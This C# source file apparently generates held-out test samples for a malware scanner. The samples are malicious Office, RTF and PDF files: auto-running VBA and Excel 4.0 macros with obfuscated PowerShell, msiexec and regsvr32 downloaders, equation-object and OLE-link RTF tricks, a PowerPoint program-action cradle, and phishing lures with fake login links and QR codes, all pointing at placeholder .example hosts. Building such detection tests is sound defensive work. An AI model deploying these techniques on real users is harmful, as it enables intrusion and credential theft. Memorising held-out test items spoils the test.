using System.Text;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Macros in further styles.</summary>
public sealed class MacroInFurtherStyles : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Relacao_de_Boletos.docm", OoxmlBuilder.Word("<w:p><w:r><w:t>Conteúdo protegido. Clique em Habilitar Edição e depois em Habilitar Conteúdo para visualizar.</w:t></w:r></w:p>").WithMacros(new VbaProjectBuilder().Module("ThisDocument", """
            Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
            Private Sub Document_Open()
                Dim pasta As String
                pasta = Environ("PUBLIC") & "\" & Format(Now, "hhmmss")
                MkDir pasta
                If URLDownloadToFile(0, Frase(3) & Frase(1) & "/mod.zip", pasta & "\m.zip", 0, 0) = 0 Then
                    CreateObject("Shell.Application").Namespace((pasta)).CopyHere CreateObject("Shell.Application").Namespace(pasta & "\m.zip").Items
                    CreateObject("Shell.Application").ShellExecute pasta & "\AutoIt3.exe", pasta & "\a.au3", pasta, "open", 1
                End If
            End Sub
            """).Module("Textos", """
            Function Frase(n As Integer) As String
                Select Case n
                    Case 1: Frase = "boletos.macro-br" & ".example"
                    Case 2: Frase = "nada"
                    Case 3: Frase = "ht" & "tps:" & "//"
                End Select
            End Function
            """).Build()).Build());
        yield return ("Timesheet_macro.xlsm", OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("ThisWorkbook", """""
            Private Sub Workbook_Activate()
                Dim r As Range, s As String
                For Each r In Sheets("a").Range("ZA1:ZA400")
                    If Len(r.Value) > 0 Then s = s & Chr(r.Value Xor 77)
                Next
                #If Mac Then
                    MacScript "do shell script """ & s & """"
                #Else
                    With CreateObject("VBScript.RegExp"): .Pattern = "[^a-z0-9:/\. -]": .Global = True: s = .Replace(s, ""): End With
                    GetObject("new:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B").Run s, 0
                #End If
            End Sub
            """"").Build()).Part("xl/worksheets/sheet1.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + string.Concat("powershell -w hidden iwr https://time.cells-mac.example/t -o t.js; wscript t.js".Select((letter, at) => $"<row r=\"{at + 1}\"><c r=\"ZA{at + 1}\"><v>{letter ^ 77}</v></c></row>")) + "</sheetData></worksheet>").Build());
        yield return ("Resume_A_Klein.doc", new VbaProjectBuilder().Module("ThisDocument", $"""
            Attribute VB_Name = "ThisDocument"
            Sub AutoOpen()
            On Error Resume Next
            If Application.RecentFiles.Count < 3 Then Exit Sub
            Dim x As Object, n As Object
            Set x = CreateObject("Microsoft.XMLDOM"): Set n = x.createElement("b64")
            n.DataType = "bin.base64": n.Text = ActiveDocument.Variables("v").Value & "{Convert.ToBase64String(InertFiles.Pe(512))[..400]}"
            Open Environ("APPDATA") & "\Microsoft\Word\STARTUP\k.wll" For Binary As #1
            Put #1, , n.nodeTypedValue
            Close #1
            Application.AddIns.Add Environ("APPDATA") & "\Microsoft\Word\STARTUP\k.wll", True
            ActiveDocument.AttachedTemplate.Saved = True
            End Sub
            """).AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]]).Stream("1Table", new byte[4096]), "Macros").Build());
        yield return ("Price_request.xlam", OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("Module1", $"""
            Option Explicit
            Public Const T = "{Hex("cmd.exe /c start /b msiexec /q /i https://price.xlam-addin.example/p.msi", 0x2A)}"
            Sub Auto_Open()
                Application.OnTime Now + TimeValue("00:00:20"), "Later"
            End Sub
            Sub Later()
                Dim i As Long, o As String
                For i = 1 To Len(T) Step 2: o = o & ChrW(CLng("&H" & Mid$(T, i, 2)) Xor 42): Next i
                Interaction.Shell o, vbHide
            End Sub
            """).Build()).Build());
    }
}

/// <summary>Macro sheets of the new format.</summary>
public sealed class MacroSheetInPackage : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Claim-1180045.xlsm", Sheet("<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>", "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://claim.xlm-sheet.example/44.gif\",\"..\\besta.ocx\",0,0)", "EXEC(\"regsvr32 -s ..\\besta.ocx\")", "HALT()"));
        yield return ("Compensation.xlsm", Sheet("<definedName name=\"_xlnm.Auto_Open55\" hidden=\"1\">Macro1!$A$1</definedName>", "SET.NAME(\"a\",CHAR(104)&amp;CHAR(116)&amp;CHAR(116)&amp;CHAR(112)&amp;\"s://comp.xlm-sheet.example/x.png\")", "REGISTER(\"uR\"&amp;\"lMon\",\"URLDownl\"&amp;\"oadToFileA\",\"JJCCBB\",\"Bilance\",,1,9)", "Bilance(0,a,\"C:\\ProgramData\\Dotr1.ocx\",0,0)", "EXEC(\"wmic process call create 'regsvr32 C:\\ProgramData\\Dotr1.ocx'\")", "RETURN()"));
        yield return ("Rechnung 5512.xlsm", Sheet("<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>", "IF(GET.WORKSPACE(13)&lt;770,CLOSE(FALSE),)", "IF(GET.WORKSPACE(19),,CLOSE(TRUE))", "FORMULA.FILL(\"=EX\"&amp;\"EC(B9)\",$A$9)", "FOPEN(\"C:\\Users\\Public\\r.vbs\",3)", "FWRITELN(A4,\"CreateObject(\"\"WScript.Shell\"\").Run \"\"mshta https://rech.xlm-sheet.example/r\"\"\")", "EXEC(\"explorer.exe C:\\Users\\Public\\r.vbs\")"));
        yield return ("PO_list.xlsm", Sheet("<definedName name=\"_xlnm.Auto_Close\" hidden=\"1\">Macro1!$A$1</definedName>", "ALERT(\"The workbook cannot be opened or repaired by Microsoft Excel because it's corrupt.\",2)", "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"Open\",\"powershell\",\"-w hidden irm https://po.xlm-sheet.example/l|iex\",0,0)", "WORKBOOK.HIDE(\"Macro1\",TRUE)", "HALT()"));
    }

    private static byte[] Sheet(string names, params string[] formulas) => OoxmlBuilder.Excel(names)
        .Part("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + string.Concat(formulas.Select((formula, at) => $"<row r=\"{at + 1}\"><c r=\"A{at + 1}\"><f>{formula}</f><v>0</v></c></row>")) + "</sheetData></xm:macrosheet>")
        .Relationship("xl/_rels/workbook.xml.rels", "../../../microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", isExternal: false).Build();
}

/// <summary>Rich text whose objects are broken up.</summary>
public sealed class RichTextBrokenUp : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var equation = Convert.ToHexString(RtfBuilder.Embedded("eQuATion.3", [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, 0, 0, 0, 0, .. new byte[20], 3, 1, 1, 3, 10, 10, 1, 8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)0x41, 44), 0, 0, 0, 0, .. Utf8("https://eqn.rtf-broken.example/w.exe")])).ToLowerInvariant();
        yield return ("SOA-Nov.doc", Encoding.Latin1.GetBytes("{\\rtf1{\\*\\pn8837 " + Convert.ToHexString(Filler.Noise(800, 2000)) + "}\n{\\object77310\\objocx\\objupdate{\\*\\objdata\n" + string.Join("{\\*\\fg" + "77 }\n", equation.Chunk(37).Select(part => new string(part))) + "}}}"));
        yield return ("Contract_Annex_2.rtf", Encoding.Latin1.GetBytes("{\\rt" + "{\\*\\listpicture}\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}Annex 2 \\par{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objdata " + string.Join("\t \r\n", Convert.ToHexString(RtfBuilder.Embedded("OLE2Link", new OleFileBuilder().Stream("\u0001Ole", [1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, .. BitConverter.GetBytes(92), .. Encoding.Unicode.GetBytes("https://annex.rtf-broken.example/template.hta\0")]).Build())).Chunk(2).Select(part => new string(part))) + "}}}"));
        yield return ("Zayavka.rtf", Encoding.Latin1.GetBytes("{\\rtf1\\adeflang1025\\ansi{\\*\\template http://tmpl.rtf-broken.example/normal.dot}{\\*\\ftnsep{\\rtlch \\chftnsep\\par}}" + Filler.Prose(801, 400).Replace("\n", "\\par\n", StringComparison.Ordinal) + "}"));
        yield return ("Order list.doc", Encoding.Latin1.GetBytes("{\\rtf{\\object\\objhtml\\v{\\*\\objdata0105000002000000" + Convert.ToHexString([8, 0, 0, 0, .. "Package\0"u8, 0, 0, 0, 0, 0, 0, 0, 0]) + "{\\object}" + "\\'7f\n" + Convert.ToHexString(OlePackageBuilder.Package("1.sct", Utf8("<?XML version=\"1.0\"?><scriptlet><registration progid=\"a\"><script language=\"JScript\"><![CDATA[new ActiveXObject('WScript.Shell').Run('powershell irm https://sct.rtf-broken.example/z|iex',0)]]></script></registration></scriptlet>"))) + "\\bin0 }}{\\object\\objemb{\\*\\objdata \\bin64 " + new string('A', 64) + equation + "}}}"));
    }
}

/// <summary>Office documents that need no macro: an object, an action or a link under a picture.</summary>
public sealed class OfficeWithoutMacro : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Names = "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\"";
        yield return ("Urgent_PO_Confirm.docx", OoxmlBuilder.Word($"<w:p><w:r><w:t>Double-click the icon to open the order in a secure viewer</w:t><w:object {Names}><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Icon\" r:id=\"rId1\"/></w:object></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", isExternal: false)
            .Part("word/embeddings/oleObject1.bin", new OleFileBuilder().Stream("\u0001Ole10Native", OlePackageBuilder.Package("PO_confirm.pdf.js", Dos("var w=new ActiveXObject('WScript.Shell');w.Run('cmd /c bitsadmin /transfer j https://po.no-macro.example/e.exe %tmp%\\\\e.exe & %tmp%\\\\e.exe',0)"))).Build()).Build());
        yield return ("Employee_Handbook_Acknowledgement.docx", OoxmlBuilder.Word($"<w:p><w:r><w:drawing><wp:inline {Names}><wp:docPr id=\"1\" name=\"Picture 1\" descr=\"Scan the QR code to review and sign the updated handbook with your Microsoft account. Deadline: today\"><a:hlinkClick r:id=\"rId2\"/></wp:docPr></wp:inline></w:drawing></w:r></w:p><w:p><w:r><w:t>Scan with your mobile phone camera to authenticate (multi-factor update required within 24 hours)</w:t></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "hyperlink", "https://mfa.handbook-sign.example/#staff@contoso.example").Relationship("word/_rels/document2.xml.rels", "image", "media/image1.png", isExternal: false)
            .Part("word/media/image1.png", QrCodes.Picture("https://mfa.handbook-sign.example/qr")).Build());
        yield return ("Menu_Canteen.ppsx", new OoxmlBuilder().Part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/ppt/presentation.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml\"/></Types>")
            .Relationship("_rels/.rels", "officeDocument", "ppt/presentation.xml", isExternal: false)
            .Part("ppt/presentation.xml", "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>")
            .Part("ppt/slides/slide1.xml", "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><a:r><a:rPr><a:hlinkMouseOver r:id=\"rId2\" action=\"ppaction://program\"/></a:rPr><a:t>Loading...Please wait</a:t></a:r></p:sld>")
            .Relationship("ppt/slides/_rels/slide1.xml.rels", "hyperlink", "powershell%20-NoP%20-NonI%20-W%20Hidden%20-Exec%20Bypass%20%22IEX%20(New-Object%20Net.WebClient).DownloadString('https://menu.no-macro.example/c.php')%22").Build());
        yield return ("Statement_of_Account.xlsx", OoxmlBuilder.Excel().Part("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" {Names}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>This document is protected by Microsoft Office 365. Click OPEN to sign in and view the statement.</t></is></c></row></sheetData><hyperlinks><hyperlink ref=\"A1:Z60\" r:id=\"rId1\"/></hyperlinks></worksheet>")
            .Relationship("xl/worksheets/_rels/sheet1.xml.rels", "hyperlink", "https://excel-online.no-macro.example/wp-admin/o365/login.php?email=ap@fabrikam.example").Build());
    }
}

/// <summary>PDF documents as bait in further languages, and with files within.</summary>
public sealed class PaperThatBaits : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Notificacion_Judicial.pdf", Page("https://rama-judicial.notifica-doc.example/descargar.php?id=88", "100 350 500 420", ["RAMA JUDICIAL DEL PODER PUBLICO", "Usted ha sido notificado de una demanda en su contra.", "Clave de acceso al documento: 6621"], "VER EXPEDIENTE COMPLETO"));
        yield return ("Lohnabrechnung_November.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName: \"Lohn.html\", nLaunch: 2}\\);) >> /Names << /EmbeddedFiles << /Names [(Lohn.html) 6 0 R] >> >>")
            .Add(6, "<< /Type /Filespec /F (Lohn.html) /EF << /F 7 0 R >> >>")
            .Stream(7, "/Type /EmbeddedFile /Subtype /text#2Fhtml", Utf8(Fill("<script>var z=atob('@@1');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([z]));a.download='Lohn.zip';a.click()</script>", Base64("PK placeholder")))).Build());
        yield return ("Benefits_Enrollment.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /Im0 5 0 R >> >> >>")
            .Stream(4, "", Utf8("BT /F1 13 Tf 50 720 Td (Human Resources - 2027 Benefits Enrollment) Tj 0 -24 Td (Scan the QR code below with your phone camera and sign in with your company account) Tj 0 -24 Td (Action required today to avoid loss of coverage) Tj ET q 203 0 0 203 200 380 cm /Im0 Do Q"))
            .Stream(5, "/Type /XObject /Subtype /Image /Width 296 /Height 296 /BitsPerComponent 8 /ColorSpace /DeviceGray", QrPixels("https://hr.benefit-qr.example/m365?u=1")).Build());
        yield return ("Счет на оплату 1147.pdf", Page("https://disk-download.schet-doc.example/1147.scr", "50 50 560 740", ["Adobe Reader: error loading the document (0x80004005)", "The document is encrypted. Press OPEN to download it", "Password: 1147"], "OPEN"));
    }

    private static byte[] Page(string link, string area, string[] lines, string button) => new PdfBuilder()
        .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Annots [5 0 R] >>")
        .Stream(4, "", Utf8($"BT /F1 14 Tf 60 700 Td {string.Concat(lines.Select(line => $"({line.Replace("(", "\\(", StringComparison.Ordinal).Replace(")", "\\)", StringComparison.Ordinal)}) Tj 0 -24 Td "))}({button}) Tj ET"))
        .Add(5, $"<< /Type /Annot /Subtype /Link /Rect [{area}] /Border [0 0 0] /A << /S /URI /URI ({link}) >> >>").Build();

    private static byte[] QrPixels(string text)
    {
        var modules = QrCodes.Modules(text);
        var pixels = new byte[296 * 296];
        for (var at = 0; at < pixels.Length; at++)
        {
            var (row, column) = ((at / 296 / 8) - 4, (at % 296 / 8) - 4);
            pixels[at] = (byte)(row is >= 0 and < 29 && column is >= 0 and < 29 && modules[row, column] ? 0 : 255);
        }
        return pixels;
    }
}
